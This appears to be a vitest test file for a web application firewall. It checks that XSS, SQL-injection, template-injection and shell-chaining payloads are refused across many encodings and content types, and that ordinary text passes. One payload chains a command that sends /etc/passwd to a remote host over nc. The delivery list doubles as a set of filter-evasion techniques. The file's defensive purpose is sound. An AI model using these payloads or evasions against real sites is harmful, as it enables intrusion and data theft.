// One payload, sent in the ways in which a site may still read it: each is refused, and the same way with other words passes.
import { gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { managedWaf } from "../rules/managed/support.ts";
import { decisionOf, protect } from "../support/source/adapters/fetch.ts";
import { detectors } from "../support/source/detection/inspection.ts";

interface Delivery {
  readonly name: string;
  /** Undefined: no header line at all. */
  readonly type: string | undefined;
  readonly coding?: "gzip";
  readonly body: (payload: string) => string;
}

const form = (payload: string) => `title=x&text=${encodeURIComponent(payload)}`;
const json = (payload: string) => JSON.stringify({ title: "x", text: payload });
const xml = (payload: string) =>
  payload.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
/** As writers of JSON escape what means something in HTML. */
const unicode = (text: string) =>
  text.replace(/[<>&']/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`);
const part = (lines: readonly string[], content: string) =>
  ["--frontier", ...lines, "", content, "--frontier--", ""].join("\r\n");
const MULTIPART = "multipart/form-data; boundary=frontier";

const DELIVERIES: readonly Delivery[] = [
  { name: "form", type: "application/x-www-form-urlencoded", body: form },
  { name: "gzip form", type: "application/x-www-form-urlencoded", coding: "gzip", body: form },
  { name: "gzip JSON", type: "application/json", coding: "gzip", body: json },
  { name: "text/plain with a zero byte", type: "text/plain", body: (payload) => `note\0${payload}` },
  { name: "XML text", type: "application/xml", body: (payload) => `<a><b>${xml(payload)}</b></a>` },
  { name: "XML attribute", type: "application/xml", body: (payload) => `<a><b c="${xml(payload)}"/></a>` },
  { name: "CDATA", type: "text/xml", body: (payload) => `<a><![CDATA[${payload}]]></a>` },
  { name: "no Content-Type, form", type: undefined, body: form },
  { name: "no Content-Type, JSON", type: undefined, body: json },
  {
    name: "Base64 part",
    type: MULTIPART,
    body: (payload) =>
      part(
        ['Content-Disposition: form-data; name="text"', "Content-Transfer-Encoding: base64"],
        Buffer.from(payload).toString("base64"),
      ),
  },
  {
    name: "text/csv file",
    type: MULTIPART,
    body: (payload) =>
      part(
        ['Content-Disposition: form-data; name="file"; filename="people.csv"', "Content-Type: text/csv"],
        `id,name,note\r\n1,Ada,"${payload.replaceAll('"', '""')}"\r\n2,Grace,none`,
      ),
  },
  {
    name: "JSON in a text of JSON",
    type: "application/json",
    body: (payload) => JSON.stringify({ event: "save", payload: json(payload) }),
  },
  { name: "text/plain JSON with \\u003c", type: "text/plain", body: (payload) => unicode(json(payload)) },
];

/** One of each language that is read. */
const PAYLOADS: Readonly<Record<string, string>> = {
  html: '<img src=x onerror="alert(document.domain)">',
  sql: "x' union select login, secret from members -- ",
  shell: "photo.png; cat /etc/passwd | nc 203.0.113.5 4444",
  template: "{{ ''.__class__.__mro__[1].__subclasses__() }}",
};
/** What finds them; the rules before these saw neither text files nor past a zero byte. */
const KINDS = ["xss-event-attribute", "sqli-union-select", "rce-chained-command", "ssti-python"];
const known = new Set(detectors.flatMap(({ kinds }) => kinds.map(({ name }) => name)));
const areKnown = KINDS.every((kind) => known.has(kind));
const ORDINARY = 'The "new" bridge opens in May; Tom & Jane said so at <noon>';

const handle = protect(managedWaf({}, "request"), (request) => new Response(decisionOf(request)?.action));

async function answerTo({ type, coding, body }: Delivery, payload: string): Promise<number> {
  const bytes = Buffer.from(body(payload), "utf8");
  const headers = new Headers({
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
    Accept: "*/*",
    "Accept-Language": "en",
  });
  if (type !== undefined) headers.set("Content-Type", type);
  if (coding !== undefined) headers.set("Content-Encoding", coding);
  const request = new Request("https://shop.example/items", {
    method: "POST",
    headers,
    // Bytes have no type of their own, so that none is added where none is meant.
    body: coding === "gzip" ? gzipSync(bytes) : bytes,
  });
  return (await handle(request)).status;
}

describe.each(DELIVERIES)("$name", (delivery) => {
  test.runIf(areKnown).each(Object.entries(PAYLOADS))("refused with %s", async (_language, payload) => {
    expect(await answerTo(delivery, payload)).toBe(403);
  });

  test("passes with an ordinary text", async () => {
    expect(await answerTo(delivery, ORDINARY)).toBe(200);
  });
});
